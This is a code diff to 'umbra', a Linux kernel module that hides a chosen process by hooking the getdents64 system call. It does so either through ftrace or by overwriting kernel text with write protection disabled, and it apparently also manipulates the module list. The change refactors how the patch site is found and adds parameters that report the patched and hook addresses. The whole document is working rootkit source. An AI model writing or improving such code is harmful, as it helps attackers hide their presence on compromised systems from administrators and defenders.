@@ -6,7 +6,8 @@
  *   umbra.ko target=ADDRESS [patch=1]      ADDRESS: that of __x64_sys_getdents64
  *
  * With patch=0 the way in is ftrace. With patch=1 it is a jump written over the no-op that ftrace would use, with write
- * protection off. /sys/module/umbra/parameters/pid can be written: the process to hide; hooked=0 takes everything back.
+ * protection off. In /sys/module/umbra/parameters: pid can be written, the process to hide; hooked=0 takes everything back;
+ * place and hook say what was rewritten and where the code is that stands in the way.
  */
 #include <linux/types.h>
 #include <linux/dirent.h>
@@ -28,6 +29,8 @@ static bool hooked;
 
 static const unsigned char nop[JUMP] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
 static unsigned char *place;
+static char place_text[20], hook_text[20];
+static char *place_said = place_text, *hook_said = hook_text;
 static call_t original;
 static struct list_head *before;
 
@@ -93,18 +96,25 @@ static void write_text(unsigned char *to, const unsigned char *bytes)
 	local_irq_restore(flags);
 }
 
-static int hook_by_patch(void)
+static int find_place(void)
 {
-	unsigned char jump[JUMP] = { 0xe9 };
-	int distance, i;
+	int i;
 
 	for (i = 0; i < 12; i++) {
 		place = (unsigned char *)target + i;
 		if (!memcmp(place, nop, JUMP))
 			break;
 	}
-	if (i == 12)
-		return -ENOENT;
+	snprintf(place_text, sizeof(place_text), "%lx", (ulong)place);
+	snprintf(hook_text, sizeof(hook_text), "%lx", (ulong)hook);
+	return i == 12 ? -ENOENT : 0;
+}
+
+static int hook_by_patch(void)
+{
+	unsigned char jump[JUMP] = { 0xe9 };
+	int distance;
+
 	original = (call_t)(place + JUMP);
 	distance = (unsigned char *)hook - (place + JUMP);
 	memcpy(jump + 1, &distance, sizeof(distance));
@@ -114,7 +124,7 @@ static int hook_by_patch(void)
 
 static int hook_by_ftrace(void)
 {
-	int error = ftrace_set_filter_ip(&ops, target, 0, 0);
+	int error = ftrace_set_filter_ip(&ops, (ulong)place, 0, 0);
 
 	original = (call_t)target;
 	return error ? error : register_ftrace_function(&ops);
@@ -122,8 +132,10 @@ static int hook_by_ftrace(void)
 
 static int begin(void)
 {
-	int error = patch ? hook_by_patch() : hook_by_ftrace();
+	int error = find_place();
 
+	if (!error)
+		error = patch ? hook_by_patch() : hook_by_ftrace();
 	if (error)
 		return error;
 	before = THIS_MODULE->list.prev;
@@ -159,6 +171,8 @@ static const struct kernel_param_ops hooked_ops = { .set = set_hooked, .get = pa
 module_param(target, ulong, 0400);
 module_param(patch, bool, 0400);
 module_param(pid, int, 0600);
+module_param_named(place, place_said, charp, 0400);
+module_param_named(hook, hook_said, charp, 0400);
 module_param_cb(hooked, &hooked_ops, &hooked, 0600);
 
 static int __init umbra_init(void)
